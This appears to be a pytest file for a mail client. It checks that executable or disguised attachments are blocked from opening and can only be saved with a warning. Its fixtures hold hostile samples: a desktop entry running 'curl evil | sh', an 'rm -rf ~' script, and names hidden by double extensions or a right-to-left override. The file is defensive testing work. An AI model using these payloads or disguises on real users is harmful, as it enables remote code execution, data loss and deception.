"""An attachment that would run as a program is never handed to the system; it can be saved.

Everything is real: the store, the attachment bar, its dialog (answered through Qt like a user
would), and QDesktopServices, whose "file" handler is taken over here so that nothing is opened
on the machine running the tests and every URL the app asks the system to open is recorded.
"""

from __future__ import annotations

import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from PySide6.QtCore import QObject, QTimer, QUrl, Slot
from PySide6.QtGui import QDesktopServices
from PySide6.QtWidgets import QAbstractButton, QApplication, QMessageBox
from pytestqt.qtbot import QtBot

from mailapp.core.file_risk import RiskKind, assess, extensions, write_zone_identifier
from mailapp.mime.parse import Attachment
from mailapp.store import open_store
from mailapp.ui.reading.attachments import AttachmentBar
from tests.ui.conftest import ACCOUNT_EMAIL, demo_item

PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00"
ELF = b"\x7fELF\x02\x01\x01\x00"
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01"
LNK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F"
DESKTOP = b"# a comment\n[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\n"
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"

# (file name, declared type, content): each must be refused, by content or by a name it has.
HOSTILE = [
    ("invoice.pdf.exe", "application/pdf", PE),
    ("invoice.pdf", "application/pdf", PE),  # the real type wins over the name
    ("photo.jpg", "image/jpeg", ELF),
    ("report.pdf", "application/pdf", MACH_O),
    ("readme.txt", "text/plain", b"#!/bin/sh\nrm -rf ~\n"),
    ("notes.txt", "text/plain", DESKTOP),
    ("open-me.desktop", "application/octet-stream", b"[Desktop Entry]\nExec=true\n"),
    ("setup.bat", "text/plain", b"@echo off\r\n"),
    ("update.hta", "text/html", b"<html><hta:application></html>"),
    ("Shortcut.lnk", "application/octet-stream", LNK),
    ("statement.exe.pdf", "application/pdf", PDF),  # a disguise whichever extension wins
    ("Invoice.PDF.EXE", "application/pdf", PDF),
    ("evil.exe. . ", "application/pdf", PDF),  # Windows drops trailing dots and spaces
    ("pay\u202efdp.scr", "application/pdf", PDF),  # shown as "payrcs.pdf"
    ("", "application/x-msdownload", PDF),  # no name: its type names it attachment-1.exe
]


class _SystemOpener(QObject):
    """Stands in for the desktop's file opener: records what the app asked it to open."""

    def __init__(self) -> None:
        super().__init__()
        self.opened: list[QUrl] = []

    @Slot(QUrl)
    def open(self, url: QUrl) -> None:
        self.opened.append(url)


@pytest.fixture
def opener() -> Iterator[_SystemOpener]:
    catcher = _SystemOpener()
    QDesktopServices.setUrlHandler("file", catcher, "open")
    yield catcher
    QDesktopServices.unsetUrlHandler("file")


def _bar(qtbot: QtBot, tmp_path: Path, files: list[tuple[str, str, bytes]]) -> AttachmentBar:
    store = open_store(tmp_path / "mail.sqlite3")
    account_id = store.create_account(ACCOUNT_EMAIL)
    attachments = [Attachment(n, t, len(d), None, False, d) for n, t, d in files]
    store.import_messages(account_id, [demo_item(1, subject="Files", attachments=attachments)])
    inbox = store.mailbox_by_role(account_id, "inbox")
    assert inbox is not None
    detail = store.message(store.page(inbox.id)[0].id)
    assert detail is not None
    bar = AttachmentBar(store)
    qtbot.addWidget(bar)
    bar.set_attachments(detail.attachments)
    bar.show()
    return bar


def _answer_dialog(button_text: str, seen: list[str]) -> None:
    """Clicks a button of the dialog that is about to run modally, as a user would."""

    def answer() -> None:
        box = QApplication.activeModalWidget()
        if not isinstance(box, QMessageBox):
            QTimer.singleShot(10, answer)
            return
        seen.append(box.text())
        button = next(b for b in box.buttons() if b.text() == button_text)
        assert isinstance(button, QAbstractButton)
        button.click()

    QTimer.singleShot(0, answer)


@pytest.mark.parametrize(("name", "content_type", "data"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_a_program_is_never_handed_to_the_system(
    qtbot: QtBot, tmp_path: Path, opener: _SystemOpener, name: str, content_type: str, data: bytes
) -> None:
    bar = _bar(qtbot, tmp_path, [(name, content_type, data)])
    temp_before = set(Path(tempfile.gettempdir()).glob("mailapp-open-*"))
    notices: list[str] = []
    bar.notice.connect(notices.append)
    seen: list[str] = []
    _answer_dialog("Cancel", seen)

    bar.list.itemActivated.emit(bar.list.item(0))  # double-click / Enter

    assert opener.opened == []
    assert len(seen) == 1 and " was not opened: " in seen[0]
    assert notices and notices[0].startswith("Opening ") and "was blocked" in notices[0]
    assert set(Path(tempfile.gettempdir()).glob("mailapp-open-*")) == temp_before  # no copy


def test_a_blocked_file_can_be_saved_with_a_clear_note(
    qtbot: QtBot, tmp_path: Path, opener: _SystemOpener
) -> None:
    bar = _bar(qtbot, tmp_path, [("invoice.pdf.exe", "application/pdf", PE)])
    folder = tmp_path / "Downloads"
    folder.mkdir()
    bar.choose_folder = lambda: folder
    notices: list[str] = []
    bar.notice.connect(notices.append)
    seen: list[str] = []
    _answer_dialog("Save As…", seen)

    bar.list.itemActivated.emit(bar.list.item(0))

    assert seen == ["invoice.pdf.exe was not opened: it is a Windows program."]
    assert opener.opened == []
    assert (folder / "invoice.pdf.exe").read_bytes() == PE
    assert notices[-1] == (
        f"Saved 1 file in {folder}. Careful: invoice.pdf.exe can run as a program; "
        "open it only if you trust the sender."
    )
    assert "only saved" in bar.list.item(0).toolTip()


def test_an_ordinary_file_still_opens(qtbot: QtBot, tmp_path: Path, opener: _SystemOpener) -> None:
    bar = _bar(qtbot, tmp_path, [("minutes.pdf", "application/pdf", PDF)])
    bar.list.itemActivated.emit(bar.list.item(0))
    (url,) = opener.opened
    path = Path(url.toLocalFile())
    assert path.name == "minutes.pdf" and path.read_bytes() == PDF
    assert not bar.list.item(0).toolTip()
    path.chmod(0o600)
    path.unlink()
    path.parent.rmdir()


@pytest.mark.parametrize(
    ("name", "found"),
    [
        ("invoice.pdf.exe", ["pdf", "exe"]),
        ("Mr. Smith report.PDF", ["pdf"]),
        ("evil.exe. . ", ["exe"]),
        ("pay\u202efdp.scr", ["scr"]),
        ("../dir.exe/readme", []),
        ("archive.tar.gz", ["tar", "gz"]),
    ],
)
def test_every_extension_of_a_name_is_seen(name: str, found: list[str]) -> None:
    assert extensions(name) == found


def test_ordinary_documents_are_not_flagged() -> None:
    for name, content_type, data in [
        ("minutes.pdf", "application/pdf", PDF),
        ("photo.jpeg", "image/jpeg", b"\xff\xd8\xff\xe0"),
        ("notes.txt", "text/plain", b"Meeting at 10. #!not a script at the start"),
        ("Mr. Smith report.docx", "application/vnd.openxmlformats", b"PK\x03\x04"),
        ("attachment-1.bin", "application/octet-stream", b"\x00\x01"),
    ]:
        assert assess([name], content_type, data) is None, name
    risk = assess(["invoice.pdf"], "application/pdf", PE)
    assert risk is not None and risk.kind is RiskKind.WINDOWS_PROGRAM


def test_the_mark_of_the_web_says_internet_zone(tmp_path: Path) -> None:
    # On NTFS this name is the file's alternate data stream, the one Windows, SmartScreen and
    # Office's Protected View read; Linux has no such streams, so it is written as a plain file
    # here to check its bytes. (mark_of_the_web() writes it only on Windows.)
    saved = tmp_path / "invoice.docx"
    saved.write_bytes(b"PK\x03\x04")
    write_zone_identifier(saved)
    stream = tmp_path / "invoice.docx:Zone.Identifier"
    assert stream.read_bytes() == b"[ZoneTransfer]\r\nZoneId=3\r\nHostUrl=about:internet\r\n"
